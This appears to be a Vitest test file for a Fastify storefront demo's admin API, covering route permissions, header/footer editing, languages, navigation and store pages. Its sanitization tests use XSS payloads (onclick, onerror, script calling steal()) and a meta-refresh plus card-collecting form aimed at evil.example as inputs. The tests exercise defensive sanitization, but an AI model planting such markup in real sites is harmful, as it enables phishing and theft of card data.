import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { Window } from 'happy-dom';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { CONTRIBUTOR_ROLE } from '../../../src/accounts';
import { useSeededDemoApp } from '../../../test/fixtures/demo-app';
import { Visitor } from '../../../test/fixtures/demo-visitor';
import { buildApp } from './app';
import { openDatabase, type DemoDatabase } from '../database';
import { hashPassword, insertSiteUser } from '../accounts';
import { seedIfEmpty } from './seed';
import { DEMO_SITE } from '../site';

const PRODUCTS = `/api/content-service/product/1.1/websites/${DEMO_SITE.websiteId}/products`;
const happyDom = new Window();
afterAll(() => happyDom.happyDOM.close());

let db: DemoDatabase;
let app: FastifyInstance;
useSeededDemoApp((demo) => ({ db, app } = demo));

let owner: Visitor;
beforeEach(async () => {
  owner = await Visitor.signedIn(app, 'owner@example.com');
});

const json = (response: LightMyRequestResponse) => response.json() as Record<string, unknown>;
const remove = (url: string) => owner.write('DELETE', url, '', { 'content-type': 'text/plain' });

async function documentAt(url: string, visitor = owner) {
  const response = await visitor.get(url);
  return { response, document: new happyDom.DOMParser().parseFromString(response.body, 'text/html') };
}

describe('every owner route declares its permission', () => {
  it('in its route config, with the shared names', async () => {
    const checked = openDatabase(':memory:');
    seedIfEmpty(checked);
    const declaring = await buildApp({ db: checked, assetsDir: join(tmpdir(), 'storefront-kit-no-bundle') });
    // What the central permission check reads: the matched route's config.
    declaring.addHook('onSend', async (request, reply) => {
      reply.header('x-declared-permission', request.routeOptions.config.permission ?? 'none');
    });
    try {
      for (const [method, url, permission] of [
        ['GET', '/api/site-header-footer', 'site:header-footer'],
        ['PUT', '/api/site-header-footer', 'site:header-footer'],
        ['POST', '/api/site-header-footer/publish', 'site:code'],
        ['POST', '/api/admin/pages/x/blocks/y/publish', 'site:code'],
        ['GET', '/api/multilingual/settings', 'site:languages'],
        ['GET', '/api/multilingual/status', 'site:languages'],
        ['GET', '/api/multilingual/languages', 'site:languages'],
        ['PUT', '/api/multilingual/languages', 'site:languages'],
        ['DELETE', '/api/multilingual/connection', 'site:languages'],
        ['GET', '/api/commondata/GetSiteLayout', 'admin:open'],
        ['POST', '/api/widget/UpdateNavigation', 'site:navigation'],
        ['GET', PRODUCTS, 'store:pages'],
        ['POST', PRODUCTS, 'store:pages'],
        ['POST', `${PRODUCTS}/x/categories`, 'store:pages'],
        ['POST', `${PRODUCTS}/x/items`, 'store:pages'],
        ['GET', '/config', 'admin:open'],
        ['GET', '/config/header-footer', 'site:header-footer'],
        ['GET', '/config/navigation', 'site:navigation'],
        ['GET', '/config/languages', 'site:languages'],
        ['GET', '/config/store-pages', 'store:pages'],
        ['GET', '/config/settings/billing/upgrade', 'admin:open'],
        ['GET', '/config/settings/billing/subscriptions', 'admin:open'],
        ['GET', '/shop', 'none'],
      ] as const) {
        const response = await declaring.inject({ method, url });
        expect(response.headers['x-declared-permission'], `${method} ${url}`).toBe(permission);
      }
    } finally {
      await declaring.close();
      checked.close();
    }
  });
});

describe('header and footer', () => {
  it('answers what is stored, saves a change, and every page shows it on its next load', async () => {
    expect(json(await owner.get('/api/site-header-footer'))).toEqual({
      header: '',
      footer: expect.stringContaining('Made by hand'),
      heldSanitized: [],
    });
    const saved = await owner.putJson('/api/site-header-footer', { header: '<p>Free shipping this week</p>', footer: '<p>© Studio</p>' });
    expect(saved.statusCode).toBe(200);
    const { document } = await documentAt('/shop');
    expect(document.querySelector('.site-header-html')?.innerHTML).toBe('<p>Free shipping this week</p>');
    expect(document.querySelector('footer.site-footer')?.textContent).toBe('© Studio');
  });

  it.each([
    [{ header: 1, footer: '' }, 400, 'header must be a string'],
    [{ header: '', footer: 'x'.repeat(20_001) }, 400, 'The footer can have at most 20,000 characters'],
  ])('refuses %j', async (body, status, message) => {
    const response = await owner.putJson('/api/site-header-footer', body);
    expect([response.statusCode, json(response)['error']]).toEqual([status, message]);
    expect(json(await owner.get('/api/site-header-footer'))['header']).toBe('');
  });

  it('refuses a write without the session’s xsrf token, and stores nothing', async () => {
    const response = await app.inject({
      method: 'PUT',
      url: '/api/site-header-footer',
      payload: { header: '<p>x</p>', footer: '' },
      headers: { cookie: owner.cookieHeader },
    });
    expect(response.statusCode).toBe(403);
    expect(json(await owner.get('/api/site-header-footer'))['header']).toBe('');
  });
});

describe('header and footer HTML from a role without site:code', () => {
  it('is kept as written for the editor, and shown sanitized: no script, no handler', async () => {
    const editor = await Visitor.signedIn(app, 'editor@example.com');
    const html = '<p onclick="steal()">Hello <b>there</b></p><script>steal()</script><img src="x" onerror="steal()">';
    await editor.putJson('/api/site-header-footer', { header: html, footer: '' });
    expect(json(await editor.get('/api/site-header-footer'))['header']).toBe(html);
    const page = await editor.get('/shop');
    const shown = new happyDom.DOMParser().parseFromString(page.body, 'text/html').querySelector('.site-header-html');
    expect(shown?.innerHTML).toBe('<p>Hello <b>there</b></p><img src="x">');
    expect(page.body).not.toContain('steal()');
  });

  it('is shown as written once a role with site:code saves it', async () => {
    await owner.putJson('/api/site-header-footer', { header: '<script src="/assets/x.js"></script>', footer: '' });
    expect((await owner.get('/shop')).body).toContain('<div class="site-header-html"><script src="/assets/x.js"></script></div>');
  });
});

describe('header and footer written by a role without site:code, saved again by the owner', () => {
  const refresh =
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/collect" method="post"><input name="card"></form>';

  async function editorWritesHeader() {
    const editor = await Visitor.signedIn(app, 'editor@example.com');
    const { footer } = json(await owner.get('/api/site-header-footer')) as { footer: string };
    expect((await editor.putJson('/api/site-header-footer', { header: refresh, footer })).statusCode).toBe(200);
    return editor;
  }

  it('stays sanitized when the owner changes only the footer', async () => {
    await editorWritesHeader();
    const read = json(await owner.get('/api/site-header-footer'));
    expect(read).toEqual({ header: refresh, footer: expect.any(String), heldSanitized: ['header'] });
    expect((await owner.putJson('/api/site-header-footer', { header: refresh, footer: '<p>© Studio</p>' })).statusCode).toBe(200);

    const guest = new Visitor(app);
    const page = await guest.get('/shop');
    expect(page.body).not.toContain('evil.example');
    expect(page.body).not.toContain('http-equiv="refresh"');
    expect(new happyDom.DOMParser().parseFromString(page.body, 'text/html').querySelector('footer.site-footer')?.textContent).toBe(
      '© Studio',
    );
    expect(json(await owner.get('/api/site-header-footer'))['heldSanitized']).toEqual(['header']);
  });

  it('takes the owner’s trust for a part the owner rewrites', async () => {
    await editorWritesHeader();
    await owner.putJson('/api/site-header-footer', { header: '<script src="/assets/x.js"></script>', footer: '' });
    expect(json(await owner.get('/api/site-header-footer'))['heldSanitized']).toEqual([]);
    expect((await new Visitor(app).get('/shop')).body).toContain(
      '<div class="site-header-html"><script src="/assets/x.js"></script></div>',
    );
  });

  it('is shown as written once the owner publishes it, and only a role with site:code can', async () => {
    const editor = await editorWritesHeader();
    const refused = await editor.postJson('/api/site-header-footer/publish', { part: 'header', html: refresh });
    expect(refused.statusCode).toBe(403);
    expect((await new Visitor(app).get('/shop')).body).not.toContain('evil.example');

    const stale = await owner.postJson('/api/site-header-footer/publish', { part: 'header', html: '<p>what the owner saw</p>' });
    expect([stale.statusCode, json(stale)['error']]).toEqual([409, expect.stringContaining('header has changed')]);
    const wrong = await owner.postJson('/api/site-header-footer/publish', { part: 'sidebar', html: refresh });
    expect([wrong.statusCode, json(wrong)['error']]).toEqual([400, expect.stringContaining('part')]);

    const published = await owner.postJson('/api/site-header-footer/publish', { part: 'header', html: refresh });
    expect(published.statusCode).toBe(200);
    expect(json(published)['heldSanitized']).toEqual([]);
    expect((await new Visitor(app).get('/shop')).body).toContain(`<div class="site-header-html">${refresh}</div>`);
  });
});

describe('languages', () => {
  it('lists the default, offers the choices, saves a list, and the storefront switches language', async () => {
    expect(json(await owner.get('/api/multilingual/languages'))).toEqual({
      languages: [{ code: 'en-US', name: 'English (United States)', isDefault: true }],
    });
    expect(json(await owner.get('/api/multilingual/settings'))).toMatchObject({
      defaultLanguage: 'en-US',
      availableLanguages: expect.arrayContaining([{ code: 'fr-FR', name: 'French (France)' }]),
    });
    expect((await documentAt('/shop')).document.querySelector('.site-languages')).toBeNull();

    const saved = await owner.putJson('/api/multilingual/languages', {
      languages: [
        { code: 'en-US', isDefault: true },
        { code: 'fr-fr', isDefault: false },
      ],
    });
    expect(json(saved)['languages']).toEqual([
      { code: 'en-US', name: 'English (United States)', isDefault: true },
      { code: 'fr-FR', name: 'French (France)', isDefault: false },
    ]);
    const { document } = await documentAt('/shop?locale=fr-FR');
    const links = [...document.querySelectorAll('nav.site-languages a')].map((link) => [
      link.textContent,
      link.getAttribute('href'),
      link.getAttribute('aria-current'),
    ]);
    expect(links).toEqual([
      ['English (United States)', '/shop', null],
      ['French (France)', '/shop?locale=fr-FR', 'true'],
    ]);
  });

  it.each([
    [{ languages: [] }, 'A site needs at least one language'],
    [{ languages: [{ code: 'en-US', isDefault: false }] }, 'Exactly one language must be the default'],
    [{ languages: [{ code: 'xx-YY', isDefault: true }] }, '"xx-YY" is not a language this site can offer'],
    [{ languages: [{ code: 'en-US' }] }, 'languages[0].isDefault must be true or false'],
    [{ languages: 'en' }, 'languages must be a list'],
  ])('refuses %j', async (body, message) => {
    const response = await owner.putJson('/api/multilingual/languages', body);
    expect([response.statusCode, json(response)['error']]).toEqual([400, message]);
  });

  it('disconnects the translation service', async () => {
    expect(json(await owner.get('/api/multilingual/status'))).toEqual({ connected: true, provider: 'Demo Translate' });
    const response = await remove('/api/multilingual/connection');
    expect(response.statusCode).toBe(200);
    expect(json(await owner.get('/api/multilingual/status'))).toEqual({ connected: false, provider: null });
  });
});

describe('site layout and navigation', () => {
  it("seeds a main navigation with today's header links, which the header renders", async () => {
    const layout = json(await owner.get('/api/commondata/GetSiteLayout'));
    const [main] = layout['layout'] as { identifier: string; links: { title: string }[] }[];
    expect(main?.identifier).toBe('main-navigation');
    expect(main?.links.map(({ title }) => title)).toEqual(['Shop', 'Journal', 'Events', 'Gallery', 'Cart']);
    const { document } = await documentAt('/blog');
    expect(
      [...document.querySelectorAll('nav.site-nav a')].map((link) => [
        link.textContent,
        link.getAttribute('href'),
        link.getAttribute('aria-current'),
      ]),
    ).toEqual([
      ['Shop', '/shop', null],
      ['Journal', '/blog', 'page'],
      ['Events', '/events', null],
      ['Gallery', '/gallery', null],
      ['Cart', '/cart', null],
    ]);
  });

  it('saves a reordered tree with a folder and a link, and the header renders it', async () => {
    const layout = json(await owner.get('/api/commondata/GetSiteLayout'));
    const pages = layout['collections'] as { id: string; urlId: string }[];
    const id = (urlId: string) => pages.find((page) => page.urlId === urlId)?.id ?? '';
    const item = (fields: object) => ({ collectionId: null, externalLink: null, memberAreaId: null, title: '', items: [], ...fields });
    const response = await owner.postJson('/api/widget/UpdateNavigation', {
      fieldName: 'main-navigation',
      templateId: layout['templateId'],
      navigation: {
        items: [
          item({ collectionId: id('blog') }),
          item({
            title: 'Visit',
            items: [
              item({ collectionId: id('events'), title: 'Dates' }),
              item({ title: 'Maps', externalLink: 'https://maps.example.com', newWindow: true }),
            ],
          }),
          item({ collectionId: id('shop') }),
        ],
      },
    });
    expect(response.statusCode).toBe(200);
    const { document } = await documentAt('/');
    expect(document.querySelector('nav.site-nav')?.innerHTML.replace(/\n/g, '')).toBe(
      '<a href="/blog">Journal</a><details class="site-nav-folder"><summary>Visit</summary><a href="/events">Dates</a>' +
        '<a href="https://maps.example.com" target="_blank" rel="noopener noreferrer">Maps<span class="visually-hidden"> (opens in a new window)</span></a>' +
        '</details><a href="/shop">Shop</a>',
    );
    // The editor reads the choice back as it was saved.
    const saved = json(await owner.get('/api/commondata/GetSiteLayout'))['layout'] as {
      links: { title: string; newWindow: boolean; children: { title: string; newWindow: boolean }[] }[];
    }[];
    expect(saved[0]?.links.flatMap((link) => [link, ...link.children]).map(({ title, newWindow }) => [title, newWindow])).toEqual([
      ['Journal', false],
      ['Visit', false],
      ['Dates', false],
      ['Maps', true],
      ['Shop', false],
    ]);
  });

  it.each([
    [
      { fieldName: 'main-navigation', templateId: 'other', navigation: { items: [] } },
      400,
      'templateId "other" is not this site\'s template',
    ],
    [{ fieldName: 'nope', templateId: DEMO_SITE.templateId, navigation: { items: [] } }, 404, 'Unknown navigation "nope"'],
    [
      { fieldName: 'main-navigation', templateId: DEMO_SITE.templateId, navigation: { items: [{ collectionId: 'gone' }] } },
      400,
      'Unknown page "gone" in the navigation',
    ],
    [
      { fieldName: 'main-navigation', templateId: DEMO_SITE.templateId, navigation: { items: [{ title: 'x', externalLink: 'ftp:x' }] } },
      400,
      'ftp:x is not a valid page URL',
    ],
    [
      { fieldName: 'main-navigation', templateId: DEMO_SITE.templateId, navigation: { items: [{ title: 5 }] } },
      400,
      'navigation.items[0].title must be a string',
    ],
    [
      {
        fieldName: 'main-navigation',
        templateId: DEMO_SITE.templateId,
        navigation: { items: [{ title: 'x', externalLink: '/shop', newWindow: 'yes' }] },
      },
      400,
      'navigation.items[0].newWindow must be true or false',
    ],
    [
      { fieldName: 'main-navigation', templateId: DEMO_SITE.templateId, navigation: { items: [{ title: 'More', newWindow: true }] } },
      400,
      'A folder cannot open in a new window ("More"): its links can',
    ],
  ])('refuses %j', async (body, status, message) => {
    const response = await owner.postJson('/api/widget/UpdateNavigation', body);
    expect([response.statusCode, json(response)['error']]).toEqual([status, message]);
  });
});

describe('store pages', () => {
  const create = (fields: object) =>
    owner.postJson(PRODUCTS, {
      navigationTitle: 'Ceramics',
      title: 'Ceramics',
      urlId: 'ceramics',
      description: 'Bowls, cups and plates.',
      enabled: true,
      ...fields,
    });

  it('creates a store page that renders at its URL, empty state included', async () => {
    const created = await create({});
    expect(created.statusCode).toBe(200);
    const { id } = json(created) as { id: string };
    expect(db.prepare('SELECT url_id, title, enabled FROM store_pages WHERE id = ?').get(id)).toEqual({
      url_id: 'ceramics',
      title: 'Ceramics',
      enabled: 1,
    });
    const { response, document } = await documentAt('/ceramics');
    expect(response.statusCode).toBe(200);
    expect(document.querySelector('main h1')?.textContent).toBe('Ceramics');
    expect(document.querySelector('.store-description')?.textContent).toBe('Bowls, cups and plates.');
    expect(document.querySelector('.store-empty')?.textContent).toBe('There are no products in this store yet. Check back soon.');
  });

  it('keeps a disabled store page from shoppers, and lists it as a Draft', async () => {
    await create({ enabled: false });
    expect((await owner.get('/ceramics')).statusCode).toBe(404);
    const pages = json(await owner.get('/api/commondata/GetSiteLayout'))['collections'] as { urlId: string; status: string }[];
    expect(pages.find((page) => page.urlId === 'ceramics')?.status).toBe('draft');
  });

  it.each([
    [{ urlId: 'shop' }, 409, 'Another page already has the URL id "shop". Choose another.'],
    [{ urlId: 'cart' }, 409, 'Another page already has the URL id "cart". Choose another.'],
    [{ urlId: 'Ce' }, 400, 'A URL id has at least 3 characters: lower-case letters, digits and single hyphens between them'],
    [{ title: ' ' }, 400, 'Enter a title'],
    [{ enabled: 'yes' }, 400, 'enabled must be true or false'],
    [{ description: 'x'.repeat(1001) }, 400, 'A description can have at most 1,000 characters'],
  ])('refuses %j', async (fields, status, message) => {
    const response = await create(fields);
    expect([response.statusCode, json(response)['error']]).toEqual([status, message]);
  });

  it('answers 404 for another website', async () => {
    const response = await owner.postJson(PRODUCTS.replace(DEMO_SITE.websiteId, 'other'), {});
    expect([response.statusCode, json(response)['error']]).toEqual([404, 'Unknown website "other"']);
  });

  it('creates nested categories with the spec fields, and the store page lists them as a tree', async () => {
    const { id } = json(await create({})) as { id: string };
    const category = (displayName: string, parentCategoryId: string | null) =>
      owner.postJson(`${PRODUCTS}/${id}/categories`, {
        displayName,
        parentCategoryId,
        type: 'ROOT',
        pageRendering: 'LIST_VIEW',
        displayIndex: 1,
      });
    const bowls = json(await category('Bowls', null))['id'] as string;
    const rice = json(await category('Rice bowls', bowls))['id'] as string;
    await category('Tiny', rice);
    await category('Cups', null);
    expect(db.prepare('SELECT display_name, type, page_rendering, display_index FROM store_categories WHERE id = ?').get(rice)).toEqual({
      display_name: 'Rice bowls',
      type: 'ROOT',
      page_rendering: 'LIST_VIEW',
      display_index: 1,
    });
    const { document } = await documentAt('/ceramics');
    expect(document.querySelector('.store-categories ul')?.outerHTML).toBe(
      '<ul><li>Bowls<ul><li>Rice bowls<ul><li>Tiny</li></ul></li></ul></li><li>Cups</li></ul>',
    );
    const again = await category('bowls', null);
    expect([again.statusCode, json(again)['error']]).toEqual([409, 'This category already exists']);
    const long = await category('x'.repeat(26), null);
    expect([long.statusCode, json(long)['error']]).toEqual([400, 'A category name can have at most 25 characters']);
    const orphan = await category('Plates', 'nope');
    expect([orphan.statusCode, json(orphan)['error']]).toEqual([400, 'Unknown parent category "nope" in this store page']);
  });

  it('moves products into a store page, out of the shop', async () => {
    const { id } = json(await create({})) as { id: string };
    const vase = db.prepare("SELECT id FROM products WHERE slug = 'stoneware-vase'").get() as { id: string };
    const moved = await owner.postJson(`${PRODUCTS}/${id}/items`, { productIds: [vase.id] });
    expect(moved.statusCode).toBe(200);
    expect(json(moved)['products']).toEqual([{ id: vase.id, title: 'Stoneware Vase' }]);
    expect((await documentAt('/ceramics')).document.querySelector('.product-card h2')?.textContent).toBe('Stoneware Vase');
    expect((await owner.get('/shop')).body).not.toContain('Stoneware Vase');
    const productPage = (await documentAt('/products/stoneware-vase')).document;
    expect(productPage.querySelector('main p a')?.getAttribute('href')).toBe('/ceramics');
    expect(JSON.parse(productPage.getElementById('page-context')?.textContent ?? '{}').collection).toEqual({ id, type: 13 });
    const unknown = await owner.postJson(`${PRODUCTS}/${id}/items`, { productIds: ['nope'] });
    expect([unknown.statusCode, json(unknown)['error']]).toEqual([404, 'Unknown item "nope"']);
  });

  it('lists every store page with its categories and products', async () => {
    const { storePages } = json(await owner.get(PRODUCTS)) as { storePages: { urlId: string; products: unknown[] }[] };
    expect(storePages.map(({ urlId }) => urlId)).toEqual(['shop']);
    expect(storePages[0]?.products.length).toBeGreaterThan(10);
  });
});

describe('the admin pages', () => {
  it.each([
    ['/config', 'Overview', 'overview'],
    ['/config/header-footer', 'Header and footer', 'header-footer'],
    ['/config/navigation', 'Navigation', 'navigation'],
    ['/config/languages', 'Languages', 'languages'],
    ['/config/store-pages', 'Store pages', 'store-pages'],
    ['/config/tags', 'Tags and categories', 'tags'],
    ['/config/content', 'Content pages', 'content'],
  ])('%s mounts the admin app on its editor', async (path, title, editor) => {
    const { response, document } = await documentAt(path);
    expect(response.statusCode).toBe(200);
    expect(document.querySelector('h1')?.textContent).toBe(title);
    const root = document.querySelector('[data-widget="admin"]');
    expect(root?.getAttribute('data-admin-page')).toBe(editor);
    expect(JSON.parse(root?.getAttribute('data-permissions') ?? '[]')).toContain('site:code');
    expect(document.querySelector('.config-nav [aria-current="page"]')?.textContent).toBe(title);
    expect(document.querySelector('.site-header')).toBeNull();
  });

  it('lists in its navigation only the pages the role may open, each editor asking for the permission its calls need', async () => {
    const navOf = async (visitor: Visitor) =>
      [...(await documentAt('/config', visitor)).document.querySelectorAll('.config-nav a')].map((link) => link.textContent);
    expect(await navOf(owner)).toEqual([
      'Overview',
      'Header and footer',
      'Navigation',
      'Languages',
      'Store pages',
      'Forms',
      'Form submissions',
      'Site styles',
      'Files',
      'Tags and categories',
      'Content pages',
    ]);
    const storeManager = await Visitor.signedIn(app, 'store@example.com');
    expect(await navOf(storeManager)).toEqual(['Overview', 'Store pages', 'Files', 'Tags and categories']);
    for (const path of [
      '/config/content',
      '/config/header-footer',
      '/config/navigation',
      '/config/languages',
      '/config/forms',
      '/config/styles',
    ]) {
      expect((await storeManager.get(path)).statusCode, path).toBe(403);
    }
    expect(await navOf(await Visitor.signedIn(app, 'editor@example.com'))).toContain('Content pages');
    insertSiteUser(
      db,
      {
        id: 'b111111111111111111111b1',
        email: 'billing@example.com',
        displayName: 'Bill Ing',
        passwordHash: await hashPassword('billing-pays-2026', { N: 2 ** 10, r: 8, p: 1 }),
        language: null,
        websiteRoles: [CONTRIBUTOR_ROLE.billing],
      },
      0,
    );
    const billing = new Visitor(app);
    expect((await billing.signIn('billing@example.com', 'billing-pays-2026')).statusCode).toBe(200);
    expect(await navOf(billing)).toEqual(['Overview']);
    expect((await billing.get('/config/tags')).statusCode).toBe(403);
    expect((await billing.get('/config/content')).statusCode).toBe(403);
  });

  it('leads a trial site to the billing upgrade page', async () => {
    const { document } = await documentAt('/config');
    const upgrade = document.querySelector('a.config-upgrade');
    expect([upgrade?.textContent, upgrade?.getAttribute('href')]).toEqual(['Upgrade', '/config/settings/billing/upgrade']);
    expect((await documentAt('/config/settings/billing/upgrade')).document.querySelector('main')?.textContent).toContain('free trial');
  });
});
